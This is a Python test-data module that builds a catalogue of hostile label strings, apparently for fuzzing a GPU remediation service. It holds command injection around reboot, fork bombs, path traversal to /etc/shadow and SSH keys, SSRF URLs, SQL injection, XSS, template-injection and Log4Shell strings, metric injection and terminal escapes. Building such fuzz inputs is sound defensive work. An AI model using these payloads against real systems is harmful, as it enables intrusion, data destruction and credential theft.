"""More than five hundred label values that mean something to somebody: none of them may mean it here."""

from __future__ import annotations

from itertools import product

GPU_ROOT = "GPU-11111111-2222-3333-4444-555555555555"

_COMMANDS = ("reboot", "id>/tmp/x", "nvidia-smi -r", "systemctl stop ollama")
_AROUND = (
    "$({})", "`{}`", ";{};", "|{}", "||{}", "&{}&", "&&{}", "\n{}\n", "\r\n{}", "'; {}; '", '"; {}; "',
    "$(echo {}|sh)", "<({})", ">({})", "{{{},}}", "\\$({})", "$'{}'", "x=$({}) y", "%0a{}", "#\n{}",
    "\x00{}", "${{IFS}}{}", "eval {}", "!{}",
)  # fmt: skip
_SHELL = (
    "$HOME", "${PATH}", "$0", "$@", "$$", "$?", "$!", "%PATH%", "%COMSPEC%", "!!", "!-1", "~", "~root", "*",
    "?", "[a-z]", "{a,b}", "{1..9}", "'", '"', "\\", "`", "\\\n", ">", ">>", "<", "<<EOF", "2>&1", "|", ";",
    "&", "()", "(){ :; }; reboot", ":(){ :|:& };:", "#", "a b", "\t", "\v", "\f", " ", "  ",
)  # fmt: skip
_OPTIONS = (
    "-", "--", "---", "-r", "-i 0 -r", "-i", "-pl", "-pl 9999", "-pm", "-rf", "-rf /", "-h", "-V", "-c",
    "--help", "--version", "--gpu-reset", "--id=0", "--power-limit=1", "--force", "--now", "--no-block",
    "--config.file=/etc/shadow", "--all", "--root=/", "--host=evil", "--signal=KILL", "-H evil", "-M x",
    "-oProxyCommand=reboot", "--exec=reboot", "+x", "@/etc/passwd", "@file", "/c", "/?",
)  # fmt: skip
_UP = ("../", "..\\", "..%2f", "%2e%2e/", "..%252f", "..%c0%af", "....//", "..;/", "\u2025/")
_FILES = (
    "etc/passwd",
    "etc/shadow",
    "proc/self/environ",
    "root/.ssh/id_rsa",
    "dev/sda",
    "x.service",
)
_PATHS = (
    "/", "//", ".", "..", "/etc/passwd", "/dev/nvidia0", "/proc/self/fd/0", "/sys/class/drm", "C:\\", "CON",
    "\\\\evil\\share", "file:///etc/passwd", "ollama.service", "ssh.service", "../ollama", "ollama/../x",
    "ollama@x.service", "*.service", "-.mount", "a/b", "\x00/etc/passwd", "ollama\x00.service", "lock",
    "remediator.db", "audit.key", "KILL",
)  # fmt: skip
_URLS = (
    "http://169.254.169.254/latest/meta-data/", "http://127.0.0.1:9940/-/release", "http://[::1]:9941/",
    "http://0/", "http://2130706433/", "http://0x7f.1/", "http://localhost:9941/api/v1/pause",
    "//evil.invalid",
    "https://evil.invalid@127.0.0.1/", "http://127.0.0.1#@evil.invalid/", "gopher://127.0.0.1:9941/_POST",
    "ftp://evil.invalid/", "dict://127.0.0.1:11211/", "unix:///var/run/docker.sock", "ldap://evil.invalid/a",
    "jar:http://evil.invalid!/", "data:text/html,<script>", "javascript:alert(1)", "vbscript:x",
    "?uuid=all", "#all", "&uuid=all", "%00", "%0d%0aX: y", "a?b#c", ":0", "@", "user:pass@host", "%", "%zz",
    "http://evil.invalid\\@127.0.0.1/", "HTTP/1.1\r\nHost: evil", "\r\nSet-Cookie: a=b", "..;/-/release",
)  # fmt: skip
_TEMPLATES = (
    *(left + "7*7" + right
    for left, right in (
        ("{{", "}}"), ("{%", "%}"), ("${", "}"), ("#{", "}"), ("<%=", "%>"), ("[[", "]]"), ("@(", ")"),
        ("{{=", "}}"), ("$((", "))"), ("*{", "}"), ("~{", "}"), ("{#", "#}"), ("{", "}"), ("%(", ")s"),
    )),
    "{{config}}", "{{''.__class__.__mro__}}", "{0.__globals__}", "{alert}", "{uuid}", "{}", "{0}",
    "{:>99999}",
    "%s", "%n", "%d%d%d", "%x", "%(message)s", "%(levelname)s", "{{ $labels.uuid }}", "{{ template \"x\" }}",
    "${jndi:ldap://evil.invalid/a}", "${env:HOME}", "{{constructor.constructor('x')()}}", "*|x|*",
    "__import__('os')",
)  # fmt: skip
_HTML = (
    "<script>alert(1)</script>", "</title><script>x</script>", "<img src=x onerror=alert(1)>",
    "<svg/onload=x>",
    "'><svg onload=alert(1)>", '"><svg onload=alert(1)>', '" onmouseover="x', "' onfocus='x' autofocus='",
    "<iframe src=javascript:x>", "<a href='javascript:x'>", "<style>*{}</style>", "<base href=//evil>",
    "<!--", "-->", "]]>", "<![CDATA[", "<?xml version='1.0'?>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///'>]>",
    "&y;", "&lt;", "&#60;", "&#x3c;script&#x3e;", "&", "<", ">", "</code>", "<br>", "\u003cscript\u003e",
    "<math><mi//xlink:href='x'>", "<form action=/api/v1/pause method=post>", "<meta http-equiv=refresh>",
    "<link rel=stylesheet href=//evil>", "+ADw-script+AD4-", "\uff1cscript\uff1e", "`-alert(1)-`",
)  # fmt: skip
_QUERIES = (
    "' OR '1'='1", "' OR 1=1 --", '" OR ""="', "'; DROP TABLE audit; --", "1; DELETE FROM runs", "\\' OR 1=1",
    "%", "_", "%%", "__", "' UNION SELECT mac FROM audit --", "1e9999", "NULL", "null", "true", "' || '",
    "/*", "*/", "--", "1/0", "x' AND randomblob(1e9) --", "'; ATTACH '/tmp/x' AS y; --", "CAST(1 AS INT)",
    '{"$gt": ""}', '{"$where": "1"}', "*)(uid=*", "admin'--", "$.run", "$[0]", "a.b.c", "[]", "{}",
)  # fmt: skip
_METRICS = (
    '"} 1\nremediator_paused 1', "\\n# HELP x", "\n# EOF\n", '",uuid="x', '{le="+Inf"}', "\\", '\\"', "\\n",
    "NaN", "+Inf", "-Inf", "1e999", "# TYPE x counter", "x{} 1 # {} 1", 'a="b"', 'uuid=~".*"', "=~", "!=",
    'up{job="x"} or vector(1)', "rate(x[5m])", "__name__", "le", "quantile", "GPUHang", "Watchdog", "other",
)  # fmt: skip
_NUMBERS = (
    "0", "-0", "-1", "00", "01", "1.0", "1e3", "0x10", "0b1", "0o7", "1_000", "2147483648",
    "9223372036854775808", "-9223372036854775809", "\u0661", "\uff11", "\u00b2", "\u2167", "1,000", "1 ",
    " 1",
    "all", "ALL", "none", "None", "undefined", "any", "every", "*:*", "local", "host", "gpu:0", "host:local",
)  # fmt: skip
_CONTROL = tuple(chr(code) for code in (*range(0x20), *range(0x7F, 0xA0)))
_UNICODE = (
    *map(chr, (
        0xAD, 0x34F, 0x61C, 0x115F, 0x180E, 0x200B, 0x200C, 0x200D, 0x200E, 0x200F, 0x2028, 0x2029, 0x202A,
        0x202B, 0x202C, 0x202D, 0x202E, 0x2060, 0x2061, 0x2066, 0x2067, 0x2068, 0x2069, 0x206A, 0x2800,
        0x3000, 0x3164, 0xFE0F, 0xFEFF, 0xFFA0, 0xFFF9, 0xFFFC, 0xFFFD, 0xFFFE, 0xFFFF, 0xFDD0, 0x1D173,
        0x1F525, 0x1FFFE, 0xE0001, 0xE0041, 0xE000, 0xF0000, 0x10FFFD, 0x10FFFF,
    )),
    "e\u0301", "\u0301" * 50, "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\u1100\u1161\u11a8", "\ufb01",
    "\u212a", "\u0130", "\u0131", "\u00df", "\u03c2", "GPU\uff0d1", "\u0413PU", "o\u217clama", "\u0585llama",
    "\u043ellama", "\uff4f\uff4c\uff4c\uff41\uff4d\uff41", "\u202eamallo", "ollama\u200b", "\ufeffollama",
    "ollama\u00a0", "ollam\u0430", "\u05d0\u05d1", "\u0627\u0644", "\u0e01\u0e33", "\u4e2d\u6587", "\u3042",
)  # fmt: skip
_TERMINAL = (
    "\x1b[2J", "\x1b[H", "\x1b[31m", "\x1b]0;owned\x07", "\x1b]8;;http://evil\x07x\x1b]8;;\x07", "\x1b[6n",
    "\x1b]52;c;eA==\x07", "\x1bP+q\x1b\\", "\x1b[?1049h", "\x9b31m", "\x08\x08\x08ok", "ok\rnot", "\x1bc",
    "\x0e",
    "\n2026-11-21T10:00:00+00:00 info all is well", '\n{"event": "run_finished"}', "a\u2028b", "\x1b#8",
)  # fmt: skip
_NEAR = (
    "ollama ", " ollama", "ollama\n", "OLLAMA", "Ollama", "ollama;x", "ollama,vllm", "ollama ollama",
    "ollama.",
    GPU_ROOT + " ", GPU_ROOT + "\n", GPU_ROOT.lower(), GPU_ROOT[:-1], GPU_ROOT + "0", GPU_ROOT + ",0",
    GPU_ROOT.replace("-", "\u2010"), "MIG-" + GPU_ROOT, GPU_ROOT + "\x00", "GPU-", "GPU-*", "gpu:" + GPU_ROOT,
    "GPU-%", "00000000:01:00.0", "0000:01:00.0", "nvidia0",
)  # fmt: skip
_LONG = (
    "x" * 1000,
    "A" * 1023,
    "\U0001f525" * 256,
    "../" * 300,
    "%s" * 400,
    "\n" * 900,
    '"' * 900,
    "(" * 900,
)

STRINGS: tuple[str, ...] = tuple(
    dict.fromkeys(
        (
            *(around.format(command) for around, command in product(_AROUND, _COMMANDS)),
            *(up * 4 + file for up, file in product(_UP, _FILES)),
            *_SHELL,
            *_OPTIONS,
            *_PATHS,
            *_URLS,
            *_TEMPLATES,
            *_HTML,
            *_QUERIES,
            *_METRICS,
            *_NUMBERS,
            *_CONTROL,
            *_UNICODE,
            *_TERMINAL,
            *_NEAR,
            *_LONG,
        )
    )
)
"""Each once; none is longer than a label may be."""
